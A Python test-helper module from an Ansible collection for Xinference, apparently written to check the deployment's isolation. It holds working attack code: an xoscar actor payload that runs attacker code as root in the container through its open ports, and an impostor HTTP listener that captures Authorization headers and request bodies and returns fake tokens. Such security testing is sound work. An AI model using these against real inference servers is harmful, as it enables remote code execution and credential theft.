# Copyright (c) 2026 inferops contributors (@inferops)
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What an attacker does who runs code in the container, or has an account on the host and none on the server."""

from __future__ import annotations

import ipaddress
import subprocess
from pathlib import Path

from conftest import CONTAINER, said

from ansible_collections.inferops.xinference.plugins.module_utils._core.host.listeners import listeners
from ansible_collections.inferops.xinference.tests.machine import built

NOBODY = 65534
#: What a process writes when it does what an attacker wants.
TAKEN = "/tmp/taken"
#: Sent to a port of the server's processes: an actor whose class is code of the attacker. Argument: host and port.
ACTOR = f"""
import asyncio, sys
import xoscar

class Taken(xoscar.Actor):
    def __init__(self):
        super().__init__()
        with open({TAKEN!r}, "w") as file:
            file.write("as root of the container")

async def attack():
    await asyncio.wait_for(xoscar.create_actor(Taken, address=sys.argv[1], uid="taken"), 30)

asyncio.run(attack())
"""


def inside(script: str) -> subprocess.CompletedProcess[str]:
    """Run a script as root of the container, as whoever may launch models can."""
    return subprocess.run(("docker", "exec", "--user", "0", CONTAINER, "sh", "-c", script), capture_output=True, text=True, check=False)


def address() -> str:
    """The container's own address."""
    return said("inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", CONTAINER)


def ports() -> list[int]:
    """Ports that the container's processes listen on, on other addresses than its loopback."""
    tables = Path(f"/proc/{said('inspect', '--format', '{{.State.Pid}}', CONTAINER)}/net")
    return sorted({listener.port for listener in listeners(tables) if not ipaddress.ip_address(listener.address).is_loopback})


def take_over(port: int, key: str | None = None) -> bool:
    """Whether a user of the host gets code run in the container through a port of its processes.

    :param key: that the user knows.
    """
    inside(f"rm -f {TAKEN}")
    secret = ("--env", f"XOSCAR_AUTH_KEY={key}") if key else ()
    # With the network of the host, as any process of that user. Xinference's transport is in the image.
    command = ("docker", "run", "--rm", "--network", "host", "--user", f"{NOBODY}:{NOBODY}", "--env", "HOME=/tmp", *secret, built("server"))
    subprocess.run((*command, "python3", "-c", ACTOR, f"{address()}:{port}"), capture_output=True, text=True, check=False, timeout=300)
    return inside(f"cat {TAKEN}").stdout == "as root of the container"


class Impostor:
    """Listens where the server should, as another user of the machine, and takes down what it is sent."""

    SCRIPT = """
import http.server, sys

class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        print(self.command, self.path, self.headers.get("Authorization"), body, flush=True)
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b'{"access_token": "taken", "refresh_token": "taken", "token_type": "bearer", "workers": ["one"], "data": []}')
    do_GET = do_POST = do_PUT = do_DELETE = answer
    def log_message(self, *arguments):
        pass

http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
"""

    def __init__(self, port: int) -> None:
        self.process = subprocess.Popen(
            ("/usr/bin/python3", "-c", self.SCRIPT, str(port)), stdout=subprocess.PIPE, text=True, user=NOBODY, group=NOBODY, extra_groups=[], cwd="/"
        )

    def stop(self) -> str:
        """End, and say what came."""
        self.process.terminate()
        return self.process.communicate(timeout=60)[0]
